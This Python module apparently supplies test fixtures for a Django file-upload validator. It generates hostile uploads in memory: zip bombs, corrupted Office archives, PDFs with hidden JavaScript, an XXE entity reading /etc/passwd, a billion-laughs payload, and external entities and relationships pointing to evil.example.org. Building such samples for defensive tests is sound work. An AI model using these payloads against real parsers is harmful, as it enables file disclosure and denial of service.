"""Files as people send them, and as attackers do: all made here, none kept."""

import random
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

from django.core.files.uploadedfile import SimpleUploadedFile

TYPES = """<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{more}
<Override PartName="/{part}" ContentType="application/vnd.{type}.main+xml"/></Types>"""
WORD = "openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "openxmlformats-officedocument.spreadsheetml.sheet"


def upload(name, content):
    return SimpleUploadedFile(name, content)


def archive(parts, method=ZIP_DEFLATED):
    made = BytesIO()
    with ZipFile(made, "w", method) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def types(part, type, more=""):
    return TYPES.format(part=part, type=type, more=more)


def docx(**more):
    return archive(
        {
            "[Content_Types].xml": types(part="word/document.xml", type=WORD),
            "word/document.xml": "<?xml version='1.0'?><!-- a note --><w:document xmlns:w='w'/>",
        }
        | more
    )


def xlsx(method=ZIP_DEFLATED, **more):
    return archive(
        {
            "[Content_Types].xml": types(part="xl/workbook.xml", type=EXCEL),
            "xl/workbook.xml": "<workbook/>",
        }
        | more,
        method,
    )


def noise(size):
    return random.Random(1).randbytes(size)


def padded(padding=20_000, **parts):
    """With a picture that cannot be packed, so that it unpacks to no more than it should."""
    return docx(**parts, **{"word/media/p.png": noise(padding)})


def named(part, content, path=""):
    """Its main part is not called .xml."""
    return archive({"[Content_Types].xml": types(part, WORD), path or part: content})


def rewritten(change):
    """A document whose second part is changed by `change(bytes, header in the directory, header before the part)`."""
    content = bytearray(docx())
    with ZipFile(BytesIO(content)) as package:
        part = package.infolist()[1]
    change(content, content.rindex(b"PK\x01\x02"), part.header_offset)
    return bytes(content)


def flagged(flag):
    def change(content, directory, header):
        content[directory + 8] |= flag
        content[header + 6] |= flag

    return rewritten(change)


def garbled():
    """Its packed bytes cannot be unpacked."""

    def change(content, _directory, header):
        start = header + 30 + len("word/document.xml")
        content[start : start + 5] = b"\xff" * 5

    return rewritten(change)


def sized_zero():
    """It says that a part is empty, which is not."""

    def change(content, directory, _header):
        content[directory + 24 : directory + 28] = bytes(4)

    return rewritten(change)


RELATIONSHIPS = "http://schemas.openxmlformats.org/{}/relationships"


def related(*relationships, of="word/_rels/document.xml.rels", **more):
    """A document whose main part points to other parts and files: (kind, target, mode) each."""
    lines = "".join(
        f'<Relationship Id="r{n}" Type="{RELATIONSHIPS.format("officeDocument/2006")}/{kind}" Target="{target}"'
        f' TargetMode="{mode}"/>'
        for n, (kind, target, mode) in enumerate(relationships)
    )
    of_package = RELATIONSHIPS.format("package/2006")
    return docx(**more, **{of: f'<Relationships xmlns="{of_package}">{lines}</Relationships>'})


def elsewhere(kind, target="http://evil.example.org/x"):
    return related(("hyperlink", "https://www.oas.org/", "External"), (kind, target, "External"))


def holding(content, name="word/embeddings/Book1.xlsx"):
    return docx(**{name: content})


COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def macro_docx():
    kind = "ms-word.document.macroEnabled"
    return archive({"[Content_Types].xml": types(part="word/document.xml", type=kind), "word/document.xml": "<a/>"})


def odt(**more):
    parts = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"}
    return archive(parts | more)


def pdf(body=b""):
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        + body
        + b"\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"
    )


def packed_pdf(objects, filters=b"/FlateDecode", packed=None, more=b""):
    """Its objects lie in an object stream, as programs have written them since PDF 1.5."""
    packed = zlib.compress(objects) if packed is None else packed
    head = b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter %b/Length %d>>" % (filters, len(packed))
    return pdf(head + b"stream\r\n" + packed + b"\nendstream\nendobj\n" + more)


def packed_across(piece=4096):
    """A name that is unpacked in two pieces, when `piece` bytes are read at a time."""
    text = b"1 0 " + noise(9_000).hex().encode()
    about = len(zlib.decompressobj().decompress(zlib.compress(text)[:piece]))
    for start in range(about - 100, about + 100):
        packed = zlib.compress(text[:start] + b"/JavaScript " + text[start:])
        if zlib.decompressobj().decompress(packed[:piece]).endswith(b"/Java"):
            return packed_pdf(b"", packed=packed)
    raise AssertionError("The name lies in one piece wherever it stands.")


def png(width=2, height=2, after=b""):
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\x00" * 14))
    return b"\x89PNG\r\n\x1a\n" + head + pixels + chunk(b"IEND", b"") + after


def jpeg(width=2, height=2):
    segment = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00" + b"\x00" * 9
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + segment + frame + b"\xff\xd9"


def webp(width=2, height=2):
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x00" * 4 + (width - 1).to_bytes(3, "little")
    body += (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bomb(parts=40, size=8 * 1024 * 1024):
    """Some 300 kB that unpack to 320 MB."""
    return docx(**{f"word/media/{n}.bin": bytes(size) for n in range(parts)})


def crowd(entries=1_001):
    return archive({f"word/{n}": "" for n in range(entries)}, ZIP_STORED)


def huge_directory():
    """A directory of megabytes whose end says it has one entry: it must not be read to be refused."""
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 300_000
    body = b"PK\x03\x04" + b"\x00" * 26
    return body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(body), 0)


BARE_DTD = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
DTD = "<?xml version='1.0'?>" + BARE_DTD

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1 or str()};' * 10}'>" for n in range(1, 10))
    + "]><x>&a9;</x>"
)
PARAMETER = "<!DOCTYPE x [<!ENTITY % p SYSTEM 'https://evil.example.org/x.dtd'> %p;]><x/>"
